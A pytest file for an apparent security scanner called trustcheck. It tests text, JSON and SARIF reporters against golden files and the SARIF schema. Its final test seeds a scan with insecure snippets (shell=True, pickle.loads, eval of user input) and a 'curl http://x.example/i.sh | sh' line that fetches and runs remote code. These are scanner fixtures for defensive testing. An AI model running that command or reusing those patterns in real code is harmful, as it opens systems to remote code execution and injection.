"""Reporters against golden files (fixed width, no colour) and the SARIF 2.1.0 schema.

Regenerate the golden files after an intended change: TRUSTCHECK_UPDATE_GOLDEN=1 pytest <this file>.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any, ClassVar

import jsonschema
import pytest

from trustcheck.discovery import ScanError
from trustcheck.findings import Confidence, Finding, Severity
from trustcheck.pipeline import ScanResult
from trustcheck.reporters import REPORTERS, ReportContext

FIXTURES = Path(__file__).parent / "fixtures"
CWD = "/repo"


class FakeRule:
    id = "py-subprocess-shell-true"
    message = "Command run through a shell with shell=True; quotes and semicolons in it become commands."
    cwe = "CWE-78"
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    tags = ("injection",)
    docs: ClassVar[dict[str, Any]] = {"what": "subprocess calls with shell=True.", "why": "Shell metacharacters run as commands.",
            "use_instead": "Pass a list of arguments.", "references": ["https://cwe.mitre.org/data/definitions/78.html"]}


def sample() -> ScanResult:
    findings = [
        Finding("py-subprocess-shell-true", "rules", Severity.HIGH, Confidence.HIGH, FakeRule.message,
                "/repo/src/app.py", 12, 5, 12, 36, "CWE-78", "subprocess.run(cmd, shell=True)"),
        Finding("py-eval-dynamic-code", "rules", Severity.MEDIUM, Confidence.MEDIUM, "eval of a dynamic string [x].",
                "/repo/src/app.py", 3, 1, 4, 2, "CWE-95", "eval(\n  data)"),
        Finding("anomaly-unusual-function", "anomaly", Severity.LOW, Confidence.LOW, "Unlike the rest of the code.",
                "/repo/lib/a b.py", 1, 1, evidence={"percentile": 99.5}),
        Finding("suppression-missing-rule", "suppressions", Severity.MEDIUM, Confidence.HIGH, "Names no rule.",
                "/repo/lib/a b.py", 7, 3, 7, 23, None, "# trustcheck: ignore"),
    ]
    findings = [f.with_fingerprint() for f in findings]
    errors = [ScanError("/repo/bin/blob.py", "binary file (contains NUL bytes), not source code; exclude it")]
    return ScanResult(findings, errors, {"files": 3, "lines": 120})


CTX = ReportContext(cwd=CWD, color=False, width=80, rules={FakeRule.id: FakeRule()}, fail_on="high")


@pytest.mark.parametrize("name, fmt", [("text.txt", "text"), ("report.json", "json"), ("report.sarif", "sarif")])
def test_golden(name: str, fmt: str) -> None:
    golden = FIXTURES / "golden" / name
    out = REPORTERS[fmt](sample(), CTX).replace(Path(CWD).resolve().as_uri(), "file:///repo")
    if os.environ.get("TRUSTCHECK_UPDATE_GOLDEN"):
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(out)
    assert out == golden.read_text()


def test_text_colour_only_when_asked() -> None:
    plain = REPORTERS["text"](sample(), CTX)
    coloured = REPORTERS["text"](sample(), ReportContext(cwd=CWD, color=True, width=80))
    assert "\x1b[" not in plain and "\x1b[" in coloured


def test_json_shape() -> None:
    doc = json.loads(REPORTERS["json"](sample(), CTX))
    assert set(doc) == {"version", "findings", "errors", "stats"}
    assert [f["path"] for f in doc["findings"]] == ["src/app.py", "src/app.py", "lib/a b.py", "lib/a b.py"]
    assert doc["errors"] == [{"path": "bin/blob.py", "message": sample().errors[0].message}]


def test_sarif_is_valid_and_has_what_github_reads() -> None:
    schema = json.loads((FIXTURES / "sarif" / "sarif-schema-2.1.0.json").read_text())
    log = json.loads(REPORTERS["sarif"](sample(), CTX))
    jsonschema.Draft4Validator(schema).validate(log)
    run = log["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    shell = rules["py-subprocess-shell-true"]
    assert shell["properties"]["security-severity"] == "8.0"
    assert "external/cwe/cwe-78" in shell["properties"]["tags"]
    assert shell["help"]["markdown"] and shell["fullDescription"]["text"] == FakeRule.docs["what"]
    for result in run["results"]:
        location = result["locations"][0]["physicalLocation"]
        assert location["artifactLocation"]["uriBaseId"] == "%SRCROOT%"
        assert not location["artifactLocation"]["uri"].startswith("/")
        assert result["partialFingerprints"] and rules[result["ruleId"]]
        assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    assert run["results"][2]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "lib/a%20b.py"
    assert run["invocations"][0]["executionSuccessful"] is False


def test_sarif_from_a_real_scan_validates(tree, cli) -> None:
    tree({"a.py": "import subprocess\nsubprocess.run(c, shell=True)\nimport pickle\npickle.loads(b)\n",
          "b.js": "eval(userInput)\n", "c.sh": "curl http://x.example/i.sh | sh\n"})
    result = cli("scan", "--format", "sarif")
    schema = json.loads((FIXTURES / "sarif" / "sarif-schema-2.1.0.json").read_text())
    log = json.loads(result.out)
    jsonschema.Draft4Validator(schema).validate(log)
    assert len(log["runs"][0]["results"]) >= 2
    for rule in log["runs"][0]["tool"]["driver"]["rules"]:
        assert rule["help"]["text"] and rule["shortDescription"]["text"] and rule["properties"]["security-severity"]
